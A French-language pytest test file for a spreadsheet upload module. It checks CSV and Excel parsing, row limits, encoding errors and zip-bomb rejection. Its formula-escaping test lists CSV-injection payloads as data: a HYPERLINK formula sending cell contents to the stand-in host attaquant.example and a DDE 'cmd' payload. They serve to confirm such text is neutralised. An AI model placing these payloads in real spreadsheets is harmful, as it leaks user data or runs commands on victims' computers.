"""Reading the tables gestionnaires upload (fiche collecte, associations): bounded before parsed,
refused with a message a person can act on."""

import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from sne.organisations.tableurs import (
    TAILLE_DECOMPRESSEE_MAX,
    FichierIllisible,
    FichierTropLong,
    ecrire_cellule,
    lire_csv,
    lire_xlsx,
)


def classeur(*lignes) -> bytes:
    wb = Workbook()
    for ligne in lignes:
        wb.active.append(ligne)
    tampon = io.BytesIO()
    wb.save(tampon)
    return tampon.getvalue()


def test_un_csv_windows_1252_est_lu_avec_son_separateur_et_ses_cellules_nettoyees():
    contenu = "nom;siren\n Emmaüs\xa0Solidarité ; 123 \n".encode("cp1252")

    assert lire_csv(contenu, lignes_max=10) == [["nom", "siren"], ["Emmaüs Solidarité", "123"]]


@pytest.mark.parametrize(
    ("premiere_ligne", "attendu"),
    [("a;b;c", ";"), ("a,b,c", ","), ("a;b,c", ";"), ("a", ","), ("a,b;c,d", ",")],
)
def test_le_separateur_est_celui_de_la_premiere_ligne(premiere_ligne, attendu):
    lignes = lire_csv(f"{premiere_ligne}\nx;y,z\n".encode(), lignes_max=10)

    assert lignes[1] == ("x;y,z".split(attendu))


def test_un_separateur_impose_n_est_pas_devine():
    assert lire_csv(b"a,b\n", lignes_max=10, separateurs=(";",)) == [["a,b"]]


def test_un_csv_d_une_ligne_de_trop_est_refuse_sans_etre_lu_jusqu_au_bout():
    assert len(lire_csv(b"a\n" * 3, lignes_max=3)) == 3
    with pytest.raises(FichierTropLong) as erreur:
        lire_csv(b"a\n" * 4, lignes_max=3, conseil_trop_long="découpez-le en deux.")

    assert erreur.value.message == "Le fichier compte plus de 3 lignes : découpez-le en deux."
    assert erreur.value.code == "fichier_trop_long"


def test_un_classeur_d_une_ligne_de_trop_est_refuse():
    lignes = lire_xlsx(classeur(["a"], [93066], [999990039.0]), lignes_max=3)
    assert [ligne[0] for ligne in lignes] == ["a", "93066", "999990039"]
    with pytest.raises(FichierTropLong):
        lire_xlsx(classeur(*[["a"]] * 4), lignes_max=3)


def test_un_classeur_qui_gonflerait_au_dela_de_la_limite_est_refuse_avant_d_etre_ouvert():
    tampon = io.BytesIO()
    with zipfile.ZipFile(tampon, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", b" " * (TAILLE_DECOMPRESSEE_MAX + 1))
    assert len(tampon.getvalue()) < 100_000

    with pytest.raises(FichierIllisible) as erreur:
        lire_xlsx(tampon.getvalue(), lignes_max=10)

    assert "trop volumineux une fois décompressé" in erreur.value.message


@pytest.mark.parametrize(
    ("contenu", "attendu"),
    [
        (b"PK\x03\x04 pas une archive", "n'a pas pu être lu"),
        (b"nom;siren\n", "n'est pas un classeur Excel"),
    ],
)
def test_un_faux_classeur_est_refuse_clairement(contenu, attendu):
    with pytest.raises(FichierIllisible) as erreur:
        lire_xlsx(contenu, lignes_max=10)

    assert attendu in erreur.value.message


@pytest.mark.parametrize(
    ("contenu", "xlsx_accepte", "attendu"),
    [
        (classeur(["a"]), True, "renommez-le en .xlsx"),
        (classeur(["a"]), False, "enregistrez-le au format CSV"),
        ("nom\n".encode("utf-16"), True, "UTF-16"),
        (b"nom\n\x81\x8d\n", True, "encodage du fichier n'est pas reconnu"),
    ],
)
def test_un_csv_illisible_est_refuse_clairement(contenu, xlsx_accepte, attendu):
    with pytest.raises(FichierIllisible) as erreur:
        lire_csv(contenu, lignes_max=10, xlsx_accepte=xlsx_accepte)

    assert attendu in erreur.value.message


def relu(*valeurs):
    """The cells of column A of a workbook written with `ecrire_cellule`, read back."""
    wb = Workbook()
    for ligne, valeur in enumerate(valeurs, start=1):
        ecrire_cellule(wb.active, ligne, 1, valeur)
    tampon = io.BytesIO()
    wb.save(tampon)
    return [ligne[0] for ligne in load_workbook(tampon).active.iter_rows()]


@pytest.mark.parametrize(
    "texte",
    [
        '=HYPERLINK("https://attaquant.example/?"&A1,"Cliquez ici")',
        "+33 1 49 00 00 00",
        "-2+3+cmd|' /C calc'!A0",
        "@SOMME(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_un_texte_qui_commence_comme_une_formule_est_ecrit_comme_du_texte(texte):
    (cellule,) = relu(texte)

    assert cellule.data_type == "s"
    assert cellule.value == texte.replace("\r", "\n")  # XML reads a lone CR as a line feed
    assert cellule.quotePrefix


def test_un_texte_ordinaire_est_ecrit_tel_quel_et_les_autres_valeurs_gardent_leur_type():
    texte, vide, nombre = relu("Accueil du public", None, 93)

    assert (texte.data_type, texte.value, texte.quotePrefix) == ("s", "Accueil du public", False)
    assert (nombre.data_type, nombre.value) == ("n", 93)
    assert vide.value is None


def test_un_caractere_de_controle_qu_un_classeur_ne_peut_contenir_est_retire():
    (cellule,) = relu("Accueil\x01 du\x0b public")

    assert cellule.value == "Accueil du public"
